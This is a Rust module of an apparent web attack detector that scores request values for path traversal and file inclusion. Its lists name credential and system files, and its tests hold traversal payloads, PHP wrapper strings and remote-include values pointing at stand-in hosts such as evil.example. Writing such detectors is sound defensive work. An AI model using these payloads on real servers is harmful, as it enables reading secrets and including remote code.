//! Path traversal and local file inclusion: the value is normalised as a path (both
//! separators, `..` variants such as `..;`, `...`, `.%00.`) and judged by how far it
//! climbs and what it reaches (system files, secrets, dot directories).

use std::borrow::Cow;

use super::{Dict, Feat, Hit, Sink, Strongest, Words};
use crate::extract::{Origin, Value};
use crate::settings::Class;

/// Files and directories whose access is the goal of a traversal.
const SENSITIVE: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    "etc/motd",
    "etc/sudoers",
    "etc/crontab",
    "etc/hostname",
    "etc/resolv.conf",
    "etc/subuid",
    "etc/subgid",
    "etc/gshadow",
    "etc/security",
    "etc/ssh",
    "etc/mysql",
    "etc/apache2",
    "etc/httpd",
    "etc/nginx",
    "etc/php",
    "etc/master.passwd",
    "etc/profile",
    "etc/environment",
    "etc/fstab",
    "etc/os-release",
    "etc/network",
    "etc/pam.d",
    "etc/ld.so",
    "etc/inittab",
    "etc/rc.local",
    "etc/apt",
    "etc/yum",
    "etc/selinux",
    "etc/init.d",
    "etc/bashrc",
    "proc/self",
    "proc/version",
    "proc/cmdline",
    "proc/net",
    "proc/sched_debug",
    "proc/mounts",
    "proc/1/",
    "proc/cpuinfo",
    "proc/meminfo",
    "proc/interrupts",
    "proc/",
    "sys/class",
    "sys/kernel",
    "sys/devices",
    "sys/firmware",
    "sys/power",
    "sys/module",
    "var/log",
    "var/run",
    "var/lib/mysql",
    "var/mail",
    "var/spool",
    "var/www",
    "root/",
    "home/",
    "usr/local/",
    "bin/sh",
    "bin/bash",
    "dev/null",
    "dev/tcp",
    "sys/",
    "windows/win.ini",
    "win.ini",
    "boot.ini",
    "windows/system32",
    "winnt/",
    "system32/",
    "inetpub/",
    "windows/repair",
    "windows/system.ini",
    "system.ini",
    "autoexec.bat",
    "web.config",
    "web-inf/",
    "meta-inf/",
    ".htaccess",
    ".htpasswd",
    ".git/",
    ".svn/",
    ".env",
    ".ssh/",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "authorized_keys",
    "known_hosts",
    ".bash_history",
    ".bashrc",
    ".profile",
    ".aws/",
    ".docker/",
    ".kube/",
    "wp-config.php",
    "config.php",
    "configuration.php",
    "localsettings.php",
    "settings.py",
    "database.yml",
    "credentials",
    "secrets.yml",
    ".npmrc",
    ".pypirc",
    ".netrc",
    "php.ini",
    "my.cnf",
    "httpd.conf",
    "nginx.conf",
    "apache2.conf",
    "boot/grub",
    "etc/",
];

/// Hidden directories that only tooling creates; requesting them probes for leaks.
const DOT_DIRS: &[&str] = &[
    ".git",
    ".svn",
    ".hg",
    ".bzr",
    ".env",
    ".ssh",
    ".aws",
    ".docker",
    ".kube",
    ".config",
    ".idea",
    ".vscode",
    ".htaccess",
    ".htpasswd",
    ".ds_store",
    ".npmrc",
    ".bash_history",
    ".kiro",
    ".junie",
    ".cursor",
    ".claude",
    ".github",
    ".gitlab-ci.yml",
    ".travis.yml",
    ".circleci",
    ".windsurf",
    ".aider",
    ".continue",
    ".codeium",
    ".copilot",
    ".clinerules",
    ".roo",
    ".gemini",
    ".amazonq",
    ".tabnine",
    ".augment",
    ".cline",
    ".mcp",
    ".trae",
    ".vs",
    ".terraform",
    ".gradle",
    ".m2",
    ".pgpass",
    ".my.cnf",
    ".netrc",
    ".git-credentials",
    ".dockerenv",
    ".well-known-x",
    ".bashrc",
    ".zshrc",
    ".profile",
    ".viminfo",
    ".mysql_history",
    ".php_history",
    ".python_history",
    ".sqlite_history",
    ".psql_history",
    ".rediscli_history",
    ".lesshst",
    ".gnupg",
    ".boto",
    ".s3cfg",
    ".azure",
    ".gcloud",
    ".terraformrc",
];

/// Normalises path punctuation: backslashes to `/`, strips NULs, lower-cases. `lower` is
/// `s` in ASCII lower case, which is the answer for most values.
fn normalise<'a>(s: &str, lower: &'a str, f: Feat) -> Cow<'a, str> {
    // Without a backslash, control (NUL) or non-ASCII byte the loop below only lower-cases.
    let plain = !f.any(Feat::BSLASH | Feat::CTRL | Feat::NONASCII)
        || s.bytes().all(|c| c.is_ascii() && c != b'\\' && c != 0);
    if plain && !lower.contains("0x") {
        return Cow::Borrowed(lower);
    }
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' | '\u{2215}' | '\u{FF0F}' | '\u{2044}' => out.push('/'),
            '\0' => {}
            '\u{FF0E}' | '\u{2024}' => out.push('.'),
            _ => out.push(c.to_ascii_lowercase()),
        }
    }
    // Literal hex spellings seen in the wild: 0x2e = '.', 0x5c = '\', 0x2f = '/'.
    if out.contains("0x") {
        out = out
            .replace("0x2e", ".")
            .replace("0x5c", "/")
            .replace("0x2f", "/");
    }
    Cow::Owned(out)
}

/// Counts `..`-like segments: `..`, `...`, `..;`, `. .`, and `..` followed by junk that
/// servers strip (`..%00`, `..?`).
fn dotdot_segments(p: &str) -> usize {
    let mut n = 0;
    for (i, seg) in p.split('/').enumerate() {
        let t = seg.trim_matches([' ', '\t']);
        let t = t.split([';', '?', '#']).next().unwrap_or(t);
        if t.len() >= 2 && t.chars().all(|c| c == '.') {
            n += 1;
            continue;
        }
        // `/..{file}`, `/...%00`: dots then junk a server strips, right after a slash.
        let dots = t.bytes().take_while(|&c| c == b'.').count();
        if i > 0
            && dots >= 2
            && t.as_bytes()
                .get(dots)
                .is_some_and(|c| !c.is_ascii_alphanumeric() && *c != b'_' && *c != b'-')
        {
            n += 1;
        }
    }
    n
}

/// Path padding: segments a file system ignores (`//`, `/./`) repeated to slip past a
/// prefix or suffix check or to push an appended extension past the path-length limit
/// (truncation), and a single component longer than any file name (255 bytes) made of
/// one repeated byte, the classic overflow probe. Only for values shaped like a path:
/// rooted, without whitespace, not a URL.
fn padding(p: &str, ups: usize) -> Option<(u32, &'static str)> {
    if !(p.starts_with('/') || p.starts_with("./")) || p.contains("://") || p.len() > 16 << 10 {
        return None;
    }
    if p.bytes().any(|c| c.is_ascii_whitespace()) {
        return None;
    }
    // `//cdn.example.com//x.css`: a protocol-relative URL, whose host is no segment.
    if let Some(rest) = p.strip_prefix("//") {
        if rest.starts_with(|c: char| c.is_ascii_alphanumeric())
            && rest.split('/').next().is_some_and(|h| h.contains('.'))
        {
            return None;
        }
    }
    let mut redundant = 0usize;
    let mut target = false;
    for (i, seg) in p.split('/').enumerate() {
        match seg {
            "" | "." if i > 0 => redundant += 1,
            "" | "." => {}
            _ => target = true,
        }
    }
    // A trailing separator ends the path; it pads nothing.
    if p.len() > 1 && p.ends_with('/') {
        redundant = redundant.saturating_sub(1);
    }
    if target && redundant >= 2 {
        return Some((
            if redundant >= 4 { 72 } else { 64 },
            "traversal.path-padding",
        ));
    }
    if target && redundant >= 1 && ups >= 1 {
        // `//..x`: a climb behind a doubled separator.
        return Some((64, "traversal.path-padding"));
    }
    // Longest run of one byte: `/AAAA…` past NAME_MAX, most of the value.
    if p.len() < 256 {
        return None;
    }
    let b = p.as_bytes();
    let (mut run, mut longest) = (0usize, 0usize);
    for (i, &c) in b.iter().enumerate() {
        run = if i > 0 && b[i - 1] == c && c != b'/' {
            run + 1
        } else {
            1
        };
        longest = longest.max(run);
    }
    if longest >= 256 && longest * 10 >= p.len() * 9 {
        return Some((64, "traversal.overlong-segment"));
    }
    None
}

/// Targets spelled without separators, as left when a filter strips `/` and `\`.
const COMPACT_TARGETS: &[&str] = &[
    "etcpasswd",
    "etcshadow",
    "etc/passwd",
    "web-inf",
    "windows",
    "win.ini",
    "boot.ini",
    "oot.ini",
    "system32",
    "inetpub",
    "global.asa",
    "etchosts",
    "procself",
];

pub(super) static SENSITIVE_DICT: Dict = Dict::new(SENSITIVE, false);

/// Stream wrappers that include a file or code.
pub(super) static WRAPPER_SCHEMES: Dict = Dict::new(
    &[
        "php://filter",
        "php://input",
        "zip://",
        "phar://",
        "expect://",
        "data://",
        "glob://",
        "file:///",
        "jar:file:",
        "netdoc:",
        "compress.zlib://",
    ],
    false,
);

/// The first entry of `SENSITIVE` (in list order) that occurs at a path boundary.
/// `words`: the dictionaries with a word in the value `p` is (when `p` is its lower-case
/// form).
fn sensitive_hit(p: &str, words: Words) -> Option<&'static str> {
    SENSITIVE_DICT
        .occurrences_in(p, 256, words)
        .into_iter()
        .filter(|&(_, pos)| {
            pos == 0
                || matches!(
                    p.as_bytes()[pos - 1],
                    b'/' | b':' | b'=' | b'.' | b'~' | b' ' | b'\'' | b'"'
                )
        })
        .map(|(idx, _)| idx)
        .min()
        .and_then(|idx| SENSITIVE_DICT.words().get(idx).copied())
}

/// Judges one value; `lower` is `text` in ASCII lower case.
pub(crate) fn detect(text: &str, lower: &str, sink: &mut Sink) {
    if text.len() < 3 {
        return;
    }
    let p = normalise(text, lower, sink.feat);
    // The dictionary scan of the value applies to `p` only when normalising changed nothing.
    let words = match p {
        Cow::Borrowed(_) => sink.words,
        Cow::Owned(_) => Words::ALL,
    };
    let origin = sink.origin;
    let mut best = Strongest::NONE;
    // Most values hold no dot at all: then none of the dot patterns below can match.
    let dotted = match p {
        Cow::Borrowed(_) => sink.feat.any(Feat::DOT),
        Cow::Owned(_) => p.contains('.'),
    };
    // Tomcat/Jetty path parameters on a parent segment: `..;/`, `..;.`
    if dotted && p.contains("..;") && (p.contains('/') || p.starts_with("..;")) {
        best.consider((72, "traversal.path-parameter"));
    }
    let ups = if dotted && p.contains("..") {
        dotdot_segments(&p)
    } else {
        0
    };
    let sensitive = sensitive_hit(&p, words);
    let looks_path = p.contains('/');
    if ups > 0 {
        let score = match (ups, sensitive.is_some()) {
            (_, true) => 92,
            (1, false) => {
                // `../x` in a file parameter is an attack; prose "..." is not.
                if p.contains("../")
                    || p.ends_with("/..")
                    || p.contains("/../")
                    || p == ".."
                    || p.starts_with("/..")
                {
                    if origin == Origin::Filename {
                        80
                    } else {
                        62
                    }
                } else {
                    20
                }
            }
            (2, false) => 75,
            _ => 85,
        };
        best.consider((score, "traversal.dot-dot"));
    }
    if let Some(score) = padding(&p, ups) {
        best.consider(score);
    }
    // A Java deployment descriptor spelt without its separator, as left by a filter
    // that strips `/` and `\`: `..web-infweb.xml`.
    if dotted && (p.contains("web-infweb.xml") || p.contains("meta-infmanifest.mf")) {
        best.consider((70, "traversal.compact-target"));
    }
    // A run of dots glued to a system target: `........etcpasswd`, `....web-inf`.
    if let Some(pos) = (dotted && p.contains("...."))
        .then(|| p.find("...."))
        .flatten()
    {
        let after = p[pos..].trim_start_matches(['.', '/']);
        if COMPACT_TARGETS.iter().any(|t| after.starts_with(t)) {
            best.consider((85, "traversal.dot-run"));
        }
    }
    // Drive-letter paths to Windows system locations: `c:inetpub...`, `d:/windows/`.
    let pb = p.as_bytes();
    if pb.len() > 3 && pb[0].is_ascii_alphabetic() && pb[1] == b':' && pb[2] != b'/'
        || pb.len() > 3 && pb[0].is_ascii_alphabetic() && pb[1] == b':' && pb[2] == b'/'
    {
        let rest = p[2..].trim_start_matches('/');
        if COMPACT_TARGETS.iter().any(|t| rest.starts_with(t)) || rest.starts_with("boot.ini") {
            best.consider((80, "traversal.windows-path"));
        }
    }
    if let Some(s) = sensitive {
        // An absolute path (or scheme) reaching a sensitive file, without `..`.
        let trimmed = p.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
        let abs = trimmed.starts_with('/')
            || trimmed.starts_with("file:")
            || trimmed.starts_with("c:/")
            || trimmed.starts_with("php://")
            || trimmed.starts_with('~')
            || (trimmed.len() > 2
                && trimmed.as_bytes()[1] == b':'
                && trimmed.as_bytes()[2] == b'/');
        let strong_file = !matches!(
            s,
            "etc/"
                | "home/"
                | "root/"
                | "usr/local/"
                | "sys/"
                | "var/www"
                | "var/log"
                | "var/run"
                | "var/spool"
                | "var/mail"
                | "credentials"
                | "dev/null"
                | ".profile"
                | "etc/hosts"
                | "etc/network"
        );
        if origin == Origin::PathFull || origin == Origin::PathSegment {
            if s.starts_with('.')
                || matches!(
                    s,
                    "web.config" | "wp-config.php" | "web-inf/" | "meta-inf/" | "php.ini"
                )
                || (abs && strong_file)
            {
                best.consider((78, "traversal.sensitive-file"));
            }
        } else if abs && strong_file {
            best.consider((80, "traversal.sensitive-file"));
        } else if abs {
            best.consider((50, "traversal.system-path"));
        } else if looks_path && matches!(s, ".ssh/" | ".aws/" | ".git/" | ".docker/" | ".kube/")
            || matches!(s, "web-inf/" | "meta-inf/") && p.contains("web.xml")
            || matches!(
                s,
                "web.config" | "wp-config.php" | ".htpasswd" | ".git/" | "id_rsa"
            )
        {
            best.consider((68, "traversal.sensitive-file"));
        } else if strong_file && looks_path && !s.starts_with('.') && s.contains('/') {
            best.consider((55, "traversal.sensitive-file"));
        }
    }
    if origin == Origin::PathFull {
        for seg in p.split('/') {
            let seg = seg.trim();
            if seg.starts_with('.')
                && seg.len() > 1
                && seg != ".well-known"
                && !seg.starts_with("..")
            {
                let known = DOT_DIRS.iter().any(|d| {
                    seg.strip_prefix(d)
                        .is_some_and(|r| r.is_empty() || r.starts_with('.'))
                });
                best.consider((if known { 78 } else { 64 }, "traversal.hidden-path"));
            }
            // Backups, dumps, logs and keys: files a site serves by mistake.
            let leak_ext = [
                ".sql", ".sql.gz", ".sql.zip", ".bak", ".old", ".swp", ".log", ".env", ".pem",
                ".key", ".sqlite", ".sqlite3", ".mdb", ".kdbx", ".p12", ".pfx", ".dump", ".tar.gz",
                ".orig",
            ];
            if seg.len() > 4 && leak_ext.iter().any(|e| seg.ends_with(e)) {
                best.consider((64, "traversal.leak-file"));
            }
            if seg.starts_with("@fs") || seg == "@id" {
                best.consider((70, "traversal.dev-server"));
            }
        }
    }
    // Wrapper schemes used for inclusion (one scan for all of them).
    if p.contains(':') && WRAPPER_SCHEMES.any_in(&p, words) {
        best.consider((80, "traversal.wrapper-scheme"));
    }
    best.report(Class::Traversal, text, sink);
}

/// Parameter names that hold a file-system location the application includes from:
/// PHP applications `include($param . "/x.php")` with these (`mosConfig_absolute_path`,
/// `_CONF[path]`), so a remote URL there is remote file inclusion. Exact names only for
/// the short words; `image_path` or `file` carrying a URL are ordinary API fields.
const INCLUDE_EXACT: &[&str] = &["path", "dir", "root", "basedir", "rootdir", "docroot"];
const INCLUDE_SUFFIXES: &[&str] = &[
    "absolute_path",
    "abs_path",
    "abspath",
    "base_path",
    "basepath",
    "base_dir",
    "basedir",
    "root_path",
    "rootpath",
    "root_dir",
    "include_path",
    "includepath",
    "include_dir",
    "includedir",
    "document_root",
    "install_path",
    "lib_path",
    "libpath",
];

/// Whether a parameter name (the last `[key]` of a PHP-style name counts) names an
/// include location; `basePath`, `base-path` and `base_path` read the same.
fn include_location_name(name: &str) -> bool {
    // Every listed name ends in `path`, `dir` or `root`, and the snake form's last
    // letters are the key's own (the key ends the name, up to its `]`): anything else is
    // no include location, without the copy.
    let end = name.trim_end_matches(']').as_bytes();
    let tail = |w: &str| {
        end.len() >= w.len() && end[end.len() - w.len()..].eq_ignore_ascii_case(w.as_bytes())
    };
    if !(tail("path") || tail("dir") || tail("root")) {
        return false;
    }
    let key = name
        .rsplit_once('[')
        .map_or(name, |(_, k)| k.trim_end_matches(']'));
    if key.len() > 64 {
        return false;
    }
    let mut snake = String::with_capacity(key.len() + 4);
    for (i, c) in key.chars().enumerate() {
        if c.is_ascii_uppercase() && i > 0 && !snake.ends_with('_') {
            snake.push('_');
        }
        snake.push(match c {
            '-' | '.' => '_',
            _ => c.to_ascii_lowercase(),
        });
    }
    INCLUDE_EXACT.contains(&snake.as_str())
        || INCLUDE_SUFFIXES.iter().any(|s| {
            snake
                .strip_suffix(s)
                .is_some_and(|head| head.is_empty() || head.ends_with('_'))
        })
}

/// A URL that makes an include read over the network: a scheme with a host, or a UNC
/// path (`\\host\share`, SMB).
fn remote_location(value: &str) -> bool {
    let v = value.trim();
    if v.starts_with("\\\\") || v.starts_with("//") && !v.starts_with("///") {
        return v.len() > 3;
    }
    // The scheme is the text before the first `:`, at most six letters: a value that
    // has no `:` in its first seven bytes is no URL here, however long it is.
    let Some(colon) = v.bytes().take(7).position(|c| c == b':') else {
        return false;
    };
    let Some(rest) = v[colon..].strip_prefix("://") else {
        return false;
    };
    let scheme = &v[..colon];
    ["http", "https", "ftp", "ftps", "smb", "webdav", "dav"]
        .iter()
        .any(|s| s.eq_ignore_ascii_case(scheme))
        && rest
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[')
}

/// Remote file inclusion: a remote URL in a parameter named like an include location.
pub(crate) fn remote_include(name_location: &str, v: &Value<'_>) -> Option<Hit> {
    if !matches!(v.origin, Origin::ParamValue | Origin::JsonValue)
        || v.header.is_some()
        || v.location != name_location
    {
        return None;
    }
    let text = v.variants.last();
    remote_location(text).then(|| Hit {
        class: Class::Traversal,
        detector: "traversal.remote-include",
        score: 72,
        snippet: text.chars().take(200).collect(),
    })
}

/// Whether `v` is a parameter or JSON key whose name says it holds an include location;
/// [`remote_include`] then judges the value that follows it.
pub(crate) fn names_include_location(v: &Value<'_>) -> bool {
    matches!(v.origin, Origin::ParamName | Origin::JsonKey)
        && include_location_name(v.variants.first())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use crate::detect::score_of;
    use crate::extract::Origin;
    use crate::settings::Class;

    fn s(t: &str) -> u32 {
        score_of(t, Origin::ParamValue, Class::Traversal)
    }

    #[test]
    fn attacks() {
        for a in [
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "/etc/shadow",
            "..;/..;/WEB-INF/web.xml",
            "file:///etc/passwd",
            "php://filter/convert.base64-encode/resource=index.php",
            "0x2e0x2e/0x2e0x2e/etc/passwd",
            "C:\\Windows\\system32\\drivers\\etc\\hosts",
            "../../../../../../../../home/user/.ssh/id_rsa",
        ] {
            assert!(s(a) >= 60, "{a}: {}", s(a));
        }
    }

    fn remote_include_score(query: &str) -> u32 {
        let req = crate::Request {
            method: "GET",
            path: "/index.php",
            query: Some(query),
            headers: &[],
            body: b"",
        };
        crate::detect::request_score(&req, Class::Traversal)
    }

    #[test]
    fn remote_include_by_parameter_name() {
        for q in [
            "mosConfig_absolute_path=https://evil.example/shell.txt",
            "_CONF[path]=http://evil.example/x",
            "cfg[include_path]=ftp://198.51.100.7/x.txt",
            "basePath=HTTPS://evil.example/",
            "module=news&root_dir=%68ttp://evil.example/a",
            "path=%5C%5Cattacker.example%5Cshare%5Cx",
            "dir=//evil.example/payload",
            "dir=webdav://evil.example/x",
        ] {
            assert!(remote_include_score(q) >= 60, "{q}");
        }
        for q in [
            "image_path=https://cdn.example.com/a.png",
            "file=https://example.com/report.pdf",
            "redirect_path=https://app.example.com/home",
            "path=/docs/getting-started",
            "basePath=/api/v2",
            "root=main&dir=asc",
            "pathology=https://example.org/a",
            "path=see%20https://evil.example/x",
        ] {
            assert!(remote_include_score(q) < 60, "{q}");
        }
    }

    #[test]
    fn padding_and_overlong_segments() {
        let long = format!("/{}", "A".repeat(300));
        for a in [
            "/.//././/./etc/hosts.txt",
            "///images/x",
            "////config",
            "\\.\\.\\.\\x.php",
            "/././././././././././././././././etc/issue",
            "//..%00x",
            long.as_str(),
            "..web-infweb.xml",
            "WEB-INFweb.xml",
        ] {
            assert!(s(a) >= 60, "{a}: {}", s(a));
        }
        let b64 = format!(
            "/9j/4AAQSkZJRgABAQ{}x/2wBDAAgGBgcGBQ{}",
            "A".repeat(300),
            "Q".repeat(200)
        );
        for l in [
            "//cdn.example.com/app.js",
            "//cdn.example.com//css//site.css",
            "https://api.example.com//v1//users",
            "https://example.com///",
            "/home/./user",
            "./src/main.rs",
            "a//b//c",
            "////",
            "/./",
            "// TODO: fix this // later",
            b64.as_str(),
            "/docs/WEB-INF is where web.xml lives",
        ] {
            assert!(s(l) < 60, "{l}: {}", s(l));
        }
    }

    #[test]
    fn legit() {
        for l in [
            "Well... I think so",
            "see /docs/getting-started",
            "images/2024/photo.jpg",
            "the etc/passwd file is a classic",
            "v1.2..v1.3 changes",
            "Wait...what?",
        ] {
            assert!(s(l) < 60, "{l}: {}", s(l));
        }
    }
}
